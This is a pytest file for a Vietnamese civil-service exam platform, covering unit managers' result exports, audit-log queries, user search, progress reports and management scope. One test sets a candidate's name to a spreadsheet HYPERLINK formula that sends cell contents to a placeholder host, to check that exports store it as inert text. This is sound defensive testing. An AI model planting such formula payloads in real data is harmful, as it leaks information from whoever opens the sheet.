"""The unit tree, a unit manager's view of their staff's results, and the audit log."""

import io

import openpyxl
from sqlalchemy import select

from service.extensions import db
from service.models import Attempt
from tests.web.pages import sign_in


def test_unit_manager_sees_and_exports_their_units_results(app, client, bank, make_user, make_session,
                                                          auth_headers, sit_exam):
    app.test_cli_runner().invoke(args=["units", "load"])
    passing = make_user("candidate", unit_code="BTR-BATRI", full_name="Lê Thị Mỹ Duyên")
    failing = make_user("candidate", unit_code="BTR-BATRI", full_name="Võ Văn Kiệt")
    elsewhere = make_user("candidate", unit_code="BTR-STC")
    session = make_session([passing, failing, elsewhere])
    sit_exam(passing, session.id)
    sit_exam(failing, session.id, right=False)
    sit_exam(elsewhere, session.id)

    manager = auth_headers(make_user("unit_manager", unit_code="BTR-BATRI"))
    body = client.get("/api/v1/units/BTR-BATRI/results", headers=manager).get_json()
    assert body["total"] == 2
    rows = {r["full_name"]: r for r in body["items"]}
    assert set(rows) == {"Lê Thị Mỹ Duyên", "Võ Văn Kiệt"}
    assert rows["Lê Thị Mỹ Duyên"]["passed"] is True and rows["Lê Thị Mỹ Duyên"]["certificate"]
    assert rows["Võ Văn Kiệt"]["passed"] is False and rows["Võ Văn Kiệt"]["certificate"] is None

    export = client.get("/api/v1/units/BTR-BATRI/results?format=xlsx", headers=manager)
    assert export.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    assert sheet["A2"].value == "Họ và tên"
    assert {sheet.cell(row=r, column=1).value for r in (3, 4)} == {"Lê Thị Mỹ Duyên", "Võ Văn Kiệt"}

    assert client.get("/api/v1/units/BTR-STC/results", headers=manager).status_code == 403
    assert client.get("/api/v1/units/KHONG-CO/results", headers=manager).status_code == 404
    assert client.get("/api/v1/units/BTR-BATRI/results?format=pdf", headers=manager).status_code == 422
    # The province's manager sees every unit below the province.
    province = auth_headers(make_user("unit_manager", unit_code="BTR"))
    assert client.get("/api/v1/units/BTR/results", headers=province).get_json()["total"] == 3


def test_unit_tree_lists_both_structures(app, client, make_user, auth_headers):
    app.test_cli_runner().invoke(args=["units", "load"])
    units = client.get("/api/v1/units", headers=auth_headers(make_user("proctor"))).get_json()["items"]
    by_code = {u["code"]: u for u in units}
    assert by_code["BTR-BATRI"]["parent"] == "BTR" and by_code["BTR-BATRI"]["structure"] == "2021"
    assert by_code["VLG-SKHCN"]["structure"] == "2025"


def test_admin_reads_the_audit_log(client, bank, make_user, auth_headers):
    admin = make_user("admin", username="quantri")
    headers = auth_headers(admin)
    author, reviewer = auth_headers(make_user("author")), auth_headers(make_user("reviewer"))
    item = client.post("/api/v1/items", headers=author, json={
        "type": "true_false", "stem": "Mật khẩu mạnh nên có ít nhất 12 ký tự.", "key": True,
        "explanation": "Mật khẩu dài khó dò hơn.", "competence": "AT.1", "level": "co_ban",
        "audiences": ["cong_chuc"]}).get_json()
    client.post(f"/api/v1/items/{item['id']}/transitions", json={"action": "submit"}, headers=author)
    client.post(f"/api/v1/items/{item['id']}/transitions", json={"action": "approve"}, headers=reviewer)
    log = client.get(f"/api/v1/audit?target_type=item&target_id={item['id']}", headers=headers).get_json()
    assert [e["action"] for e in log["items"]] == ["item.approve", "item.submit", "item.create"]
    assert log["items"][0]["actor"].startswith("reviewer") and log["items"][0]["at"].endswith("Z")
    by_actor = client.get("/api/v1/audit?actor=quantri", headers=headers).get_json()
    assert by_actor["total"] == 0
    reviewed = client.get(f"/api/v1/audit?actor={log['items'][0]['actor']}", headers=headers).get_json()
    assert [e["action"] for e in reviewed["items"]] == ["item.approve"]
    at = log["items"][1]["at"]  # the submit: since is included, until is not
    since = client.get(f"/api/v1/audit?target_id={item['id']}&since={at}", headers=headers).get_json()
    until = client.get(f"/api/v1/audit?target_id={item['id']}&until={at}", headers=headers).get_json()
    assert {e["action"] for e in since["items"]} >= {"item.submit", "item.approve"}
    assert "item.submit" not in {e["action"] for e in until["items"]} and "item.create" in {
        e["action"] for e in until["items"]}
    bad = client.get("/api/v1/audit?since=hom-qua", headers=headers)
    assert bad.status_code == 422 and "since" in bad.get_json()["errors"]


def test_accounts_by_text_in_the_username_or_name(app, client, make_user, auth_headers):
    app.test_cli_runner().invoke(args=["units", "load"])
    make_user("candidate", username="hoa.tt", full_name="Trần Thị Hòa", unit_code="BTR-BATRI")
    make_user("candidate", username="binh.nv", full_name="Nguyễn Văn Bình", unit_code="BTR-STC")
    manager = auth_headers(make_user("unit_manager", unit_code="BTR-BATRI"))
    admin = auth_headers(make_user("admin"))

    def usernames(headers, **query):
        return [u["username"] for u in client.get("/api/v1/users", query_string=query,
                                                  headers=headers).get_json()["items"]]

    assert usernames(admin, q="Thị Hòa") == ["hoa.tt"] and usernames(admin, q="BINH") == ["binh.nv"]
    assert usernames(admin, q="100%_") == []  # wildcards are text
    assert usernames(manager, q="binh") == []  # another unit's person
    assert client.get("/api/v1/users", query_string={"q": "x" * 201}, headers=admin).status_code == 422


def test_reports_progress_and_competence_profile(app, client, bank, make_user, make_session, auth_headers,
                                                  sit_exam):
    app.test_cli_runner().invoke(args=["units", "load"])
    people = [make_user("candidate", unit_code="BTR-BATRI") for _ in range(3)]
    session = make_session(people)
    sit_exam(people[0], session.id)
    sit_exam(people[1], session.id, right=False)
    admin = auth_headers(make_user("admin"))
    year = session.opens_at.year
    progress = client.get(f"/api/v1/reports/progress?year={year}", headers=admin).get_json()
    civil = next(row for row in progress["by_audience"] if row["code"] == "cong_chuc")
    assert (civil["enrolled"], civil["sat"], civil["passed"], civil["certified"]) == (3, 2, 1, 1)
    districts = next(row for row in progress["by_unit_type"] if row["code"] == "ubnd_huyen")
    assert districts["target_to_2025"] == 900 and districts["certified"] == 1
    old = client.get("/api/v1/reports/progress?year=2023", headers=admin).get_json()
    assert next(r for r in old["by_audience"] if r["code"] == "cong_chuc")["target"] == 700

    profile = client.get(f"/api/v1/reports/competences?year={year}", headers=admin).get_json()["items"]
    at = next(row for row in profile if row["area"] == "AT")
    assert at["attempts"] == 2 and at["mean_percent"] == 50.0 and at["below_minimum_share"] == 0.5
    assert all(row["minimum_applied"] == row["attempts"] for row in profile)  # BP-CCVC: every area ≥ 7 items
    export = client.get(f"/api/v1/reports/competences?year={year}&format=xlsx", headers=admin)
    sheet = openpyxl.load_workbook(io.BytesIO(export.data)).active
    assert sheet["C2"].value == "Lĩnh vực" and sheet.max_row == 2 + len(profile)
    assert client.get("/api/v1/reports/progress?year=1900", headers=admin).status_code == 422


def test_progress_by_unit_and_audience_in_one_grouped_query(app, client, bank, make_user, make_session,
                                                            auth_headers, sit_exam):
    from sqlalchemy import event

    from service import reports

    app.test_cli_runner().invoke(args=["units", "load"])
    batri = [make_user("candidate", unit_code="BTR-BATRI") for _ in range(2)]
    leader = make_user("candidate", unit_code="BTR-BATRI", audience_code="lanh_dao")
    finance = make_user("candidate", unit_code="BTR-STC")
    session = make_session([*batri, finance])
    make_session([leader], blueprint="BP-LDQL")
    sit_exam(batri[0], session.id)
    sit_exam(batri[1], session.id, right=False)
    year = session.opens_at.year

    def counting(year):
        statements = []

        def record(conn, cursor, statement, *args):
            statements.append(statement)

        event.listen(db.engine, "before_cursor_execute", record)
        try:
            return reports.progress(year), len(statements)
        finally:
            event.remove(db.engine, "before_cursor_execute", record)

    before, queries_before = counting(year)
    sit_exam(finance, session.id)  # one more unit with a result: no more queries for it
    progress, queries = counting(year)
    assert queries == queries_before <= 3  # the audiences, the unit types and the grouped counts
    assert len(before["by_unit"]) == len(progress["by_unit"]) == 3

    rows = {(r["unit"], r["audience"]): (r["enrolled"], r["sat"], r["passed"], r["certified"])
            for r in progress["by_unit"]}
    assert rows == {("BTR-BATRI", "lanh_dao"): (1, 0, 0, 0), ("BTR-BATRI", "cong_chuc"): (2, 2, 1, 1),
                    ("BTR-STC", "cong_chuc"): (1, 1, 1, 1)}
    assert [(r["unit"], r["audience"]) for r in progress["by_unit"]] == list(rows)  # by unit, then audience
    batri_row = progress["by_unit"][1]
    assert (batri_row["unit_name"], batri_row["unit_type"], batri_row["audience_name"]) == (
        "Ủy ban nhân dân huyện Ba Tri", "ubnd_huyen", "Công chức, viên chức, người lao động")
    for name in ("enrolled", "sat", "passed", "certified"):  # the three breakdowns count the same people
        assert sum(r[name] for r in progress["by_unit"]) == sum(r[name] for r in progress["by_audience"])
        assert sum(r[name] for r in progress["by_unit"]) == sum(r[name] for r in progress["by_unit_type"])

    admin = auth_headers(make_user("admin"))
    body = client.get(f"/api/v1/reports/progress?year={year}", headers=admin).get_json()
    assert body["by_unit"] == progress["by_unit"]
    assert set(body) == {"year", "plan", "by_audience", "by_unit_type", "by_unit"}
    schema = client.get("/api/v1/openapi.json").get_json()["components"]["schemas"]
    assert {"unit", "unit_name", "unit_type", "audience", "certified"} <= set(schema["UnitProgress"]["properties"])
    assert "by_unit" in schema["ProgressReport"]["properties"]

    export = client.get(f"/api/v1/reports/progress?year={year}&format=xlsx", headers=admin)
    workbook = openpyxl.load_workbook(io.BytesIO(export.data))
    assert workbook.sheetnames == [f"Tiến độ năm {year}", f"Theo đơn vị năm {year}"]
    units = workbook[f"Theo đơn vị năm {year}"]
    assert [c.value for c in units[2]] == ["Mã đơn vị", "Đơn vị", "Đối tượng", "Được ghi danh", "Đã dự thi",
                                           "Đạt chuẩn", "Được cấp chứng nhận"]
    assert [c.value for c in units[4]] == ["BTR-BATRI", "Ủy ban nhân dân huyện Ba Tri",
                                           "Công chức, viên chức, người lao động", 2, 2, 1, 1]
    assert units.max_row == 2 + 3


def test_the_area_minimum_share_counts_only_forms_where_the_minimum_applied(app, client, bank, make_user,
                                                                             make_session, auth_headers, sit_exam):
    """BP-CTCDS draws 5 GT and 5 ND items, under its 7-item floor: a failed GT is no deficiency there."""
    app.test_cli_runner().invoke(args=["units", "load"])
    person = make_user("candidate", unit_code="BTR-BATRI", audience_code="chuyen_trach")
    session = make_session([person], blueprint="BP-CTCDS")
    submitted = sit_exam(person, session.id, right=False)
    result = submitted["result"]
    assert {a["code"]: a["minimum_applies"] for a in result["areas"]}["GT"] is False
    sign_in(client, person)
    attempt_id = db.session.scalar(select(Attempt.id).where(Attempt.user_id == person.id))
    own = client.get(f"/bai-thi/{attempt_id}/ket-qua").get_data(as_text=True)
    assert own.count("Không xét") == 2  # GT and ND; the four areas of 8 or more items say "Không"
    admin = auth_headers(make_user("admin"))
    profile = client.get(f"/api/v1/reports/competences?year={session.opens_at.year}", headers=admin).get_json()
    rows = {row["area"]: row for row in profile["items"]}
    assert rows["GT"]["minimum_applied"] == 0 and rows["GT"]["below_minimum_share"] is None
    assert rows["CN"]["minimum_applied"] == 1 and rows["CN"]["below_minimum_share"] == 1.0
    sign_in(client, make_user("admin"))
    page = client.get(f"/quan-ly/bao-cao?year={session.opens_at.year}").get_data(as_text=True)
    assert "không xét" in page  # GT's minimum did not apply to anyone: no share shown


def test_a_name_that_looks_like_a_formula_is_exported_as_text(app, client, bank, make_user, make_session,
                                                                auth_headers, sit_exam):
    """A candidate named "=HYPERLINK(…)" must not become a live formula in HR's spreadsheet."""
    import zipfile

    app.test_cli_runner().invoke(args=["units", "load"])
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
    person = make_user("candidate", unit_code="BTR-BATRI", full_name=hostile)
    sit_exam(person, make_session([person]).id)
    manager = auth_headers(make_user("unit_manager", unit_code="BTR-BATRI"))
    export = client.get("/api/v1/units/BTR-BATRI/results?format=xlsx", headers=manager)
    cell = openpyxl.load_workbook(io.BytesIO(export.data)).active["A3"]
    assert cell.value == hostile and cell.data_type == "s"
    sheet_xml = zipfile.ZipFile(io.BytesIO(export.data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet


def test_who_manages_which_units(app, make_user):
    """One rule for the unit-manager scope: the manager's unit and the units below it; admins everywhere."""
    from sqlalchemy import select

    from service.extensions import db
    from service.models import Unit, User
    from service.units import in_scope, manages

    app.test_cli_runner().invoke(args=["units", "load"])
    unit = {u.code: u.id for u in db.session.scalars(select(Unit))}
    province = make_user("unit_manager", unit_code="BTR")
    district = make_user("unit_manager", unit_code="BTR-BATRI")
    people = {code: make_user("candidate", unit_code=code) for code in ("BTR-BATRI", "BTR-STC")}
    for user, expected in [
        (province, {"BTR": True, "BTR-BATRI": True, "BTR-STC": True, "VLG-SKHCN": False}),
        (district, {"BTR": False, "BTR-BATRI": True, "BTR-STC": False, "VLG-SKHCN": False}),
        (make_user("admin"), {"BTR": True, "BTR-BATRI": True, "BTR-STC": True, "VLG-SKHCN": True}),
        (make_user("proctor", unit_code="BTR"), {"BTR": False, "BTR-BATRI": False, "BTR-STC": False,
                                                 "VLG-SKHCN": False}),
        (make_user("unit_manager"), {"BTR": False, "BTR-BATRI": False, "BTR-STC": False, "VLG-SKHCN": False}),
    ]:
        assert {code: manages(user, unit[code]) for code in expected} == expected, user.username
        assert not manages(user, None) or user.role == "admin"
        seen = set(db.session.scalars(select(User.id).where(User.role == "candidate", in_scope(User.unit_id, user))))
        assert seen == {p.id for code, p in people.items() if expected[code]}, user.username
